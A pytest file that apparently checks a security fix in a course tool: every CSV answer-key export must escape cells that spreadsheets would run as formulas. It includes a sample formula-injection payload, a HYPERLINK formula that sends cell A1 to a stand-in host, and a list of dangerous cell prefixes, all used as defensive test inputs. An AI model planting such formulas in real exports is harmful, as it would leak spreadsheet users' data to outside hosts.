"""Finding 13 of the second security pass: no formula reaches an answer-key CSV."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from hscourse.course.forms import forms_for, key_csv
from hscourse.course.project import load_course
from hscourse.csvfile import csv_bytes, safe_cell
from hscourse.formats.csvkey import export_csv

from conftest import EXAMPLE, copy_course, replace_once

FORMULA = "=HYPERLINK(\"https://example.invalid/?\"&A1,\"click\")"


@pytest.mark.parametrize("cell", ["=1+1", "+1+A1", "-1-A1", "@SUM(A1)", "\tx", "\rx"])
def test_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell
    assert safe_cell("1–C, 2–A") == "1–C, 2–A" and safe_cell(3) == "3"
    assert safe_cell("-1.5") == "-1.5" and safe_cell(-2) == "-2"  # marks stay numbers


def test_an_accepted_answer_formula_is_neutralised_in_every_key(tmp_path: Path) -> None:
    root = copy_course(EXAMPLE, tmp_path / "course")
    replace_once(root / "modules/example/module.yaml", "ACCEPTED-World Bank",
                 '"' + FORMULA.replace('"', "'") + '"')
    course = load_course(root)
    course.settings = course.settings.changed(versions=2)
    texts = [export_csv(course)[0].decode("utf-8-sig")]
    texts += [key_csv(form).decode() for form in forms_for(course, course.modules[0])]
    for text in texts:
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
        assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_csv_bytes_round_trips_plain_cells() -> None:
    data = csv_bytes(["a", "b"], [["x, y", 'q"uote']], excel=True)
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [["a", "b"],
                                                                       ["x, y", 'q"uote']]
